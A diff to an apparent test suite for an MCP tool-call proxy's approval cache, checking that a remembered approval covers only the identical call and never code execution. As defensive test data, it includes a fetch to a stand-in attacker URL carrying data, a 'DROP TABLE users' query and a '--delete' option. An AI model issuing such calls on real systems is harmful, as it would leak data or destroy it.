@@ -201,6 +201,54 @@ async def test_remembered_approval_is_reused_until_ttl_or_reload(
     assert records["5"].get("approval_cached") is None
 
 
+ASK_ALL = {
+    "version": "1",
+    "rules": [{"id": "ask-all", "effect": "ask", "conditions": {"mcp_method": "tools/call"}}],
+}
+
+
+async def test_a_remembered_approval_covers_the_same_call_only(tmp_path: Path) -> None:
+    """The same call again: the same tool, each path under the same argument name (written
+    differently, normalised, is the same), every other argument the same (in any key
+    order). Another URL, other SQL, swapped paths or the same path behind another option
+    are asked again."""
+    setup = Setup(tmp_path, Limits(), policy=ASK_ALL)
+    await setup.trail.start()
+    await setup.control.start()
+
+    def call(name: str, **arguments: Any) -> dict[str, Any]:
+        return {"name": name, "arguments": arguments}
+
+    fetch = call("fetch", url="https://docs.python.org/3/", headers={"a": 1, "b": 2})
+    await approve_remembering(setup, fetch, 1)
+    assert await remembered(setup, fetch, 2)
+    reordered = call("fetch", headers={"b": 2, "a": 1}, url="https://docs.python.org/3/")
+    assert await remembered(setup, reordered, 3)
+    assert not await remembered(setup, call("fetch", url="https://attacker.example/?d=k"), 4)
+    assert not await remembered(setup, call("fetch", url="https://docs.python.org/3/"), 5)
+
+    query = call("write_query", query="INSERT INTO notes VALUES ('hi')")
+    await approve_remembering(setup, query, 6)
+    assert not await remembered(setup, call("write_query", query="DROP TABLE users"), 7)
+
+    convert = call("convert", file="/data/in.txt", output_path="/data/out.txt")
+    await approve_remembering(setup, convert, 8)
+    assert await remembered(
+        setup, call("convert", file="/data/./in.txt", output_path="/data/out.txt"), 9
+    )
+    swapped = call("convert", file="/data/out.txt", output_path="/data/in.txt")
+    assert not await remembered(setup, swapped, 10)
+
+    frob = call("frob", option="--output=/data/x")  # a path behind an option
+    await approve_remembering(setup, frob, 11)
+    assert await remembered(setup, frob, 12)
+    assert not await remembered(setup, call("frob", option="--delete=/data/x"), 13)
+    await setup.control.close()
+    await setup.trail.close()
+    cached = [r["request_id"] for r in setup.decisions() if r.get("approval_cached")]
+    assert cached == ["2", "3", "9", "12"]
+
+
 async def test_the_engine_swapped_before_the_proxy_hears_of_it(
     clock_setup: tuple[Setup, Clock],
 ) -> None:
@@ -279,10 +327,11 @@ async def test_the_cache_never_holds_an_approval_of_code_execution(
     """Whoever asks it to: the cache itself refuses, not only the approver."""
     entry = ToolEntry(tool="deploy", operations=["execute"], side_effects=[side_effect, "fs_read"])
     setup = Setup(tmp_path, Limits(), registry=ToolRegistry.default([entry]))
-    request = await setup.pep.build("tools/call", {"name": "deploy", "arguments": {}}, 1)
+    params = {"name": "deploy", "arguments": {}}
+    request = await setup.pep.build("tools/call", params, 1)
     decision = Decision(Effect.ASK, setup.engine.policy_id, rule_id="ask-deploy")
-    assert not setup.pep.limits.approvals.remember(request, "alice", decision)
-    assert setup.pep.limits.approvals.get(request, decision) is None
+    assert not setup.pep.limits.approvals.remember(request, "alice", decision, params=params)
+    assert setup.pep.limits.approvals.get(request, decision, params=params) is None
     assert len(setup.pep.limits.approvals) == 0
 
 
